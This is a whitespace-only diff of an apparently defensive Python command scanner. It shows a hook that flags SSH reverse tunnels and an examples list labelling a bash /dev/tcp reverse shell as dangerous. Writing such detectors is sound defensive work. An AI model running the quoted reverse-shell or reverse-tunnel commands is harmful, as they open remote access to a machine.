@@ -237,7 +237,6 @@ def secrets_in_arguments(ctx, cmd) -> None:
             return
 
 
-
 @hook("command")
 def reverse_tunnel(ctx, cmd) -> None:
     """`ssh -R 2222:localhost:22 vps`: whoever reaches that port on the far side reaches this machine
@@ -246,6 +245,7 @@ def reverse_tunnel(ctx, cmd) -> None:
         parts = spec.text.rsplit(":", 2)
         target = ":".join(parts[-2:]) if len(parts) >= 3 else "a SOCKS proxy"
         ctx.add("network.reverse-tunnel", cmd, target=target, spec=spec.text)
+
 
 EXAMPLES = [
     ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", DANGEROUS, "network.reverse-shell"),
